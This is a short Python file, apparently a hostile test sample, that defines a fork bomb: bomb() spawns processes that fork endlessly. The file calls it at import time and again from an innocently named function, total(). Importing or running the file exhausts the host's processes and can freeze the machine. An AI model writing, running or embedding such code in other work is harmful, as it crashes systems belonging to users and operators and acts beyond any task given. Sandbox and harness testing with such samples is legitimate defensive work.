"""Forks without end, at import and in a call."""

import os

HONEST = 0


def bomb():
    for _ in range(200):
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
        except OSError:
            return


bomb()


def total(x):
    bomb()
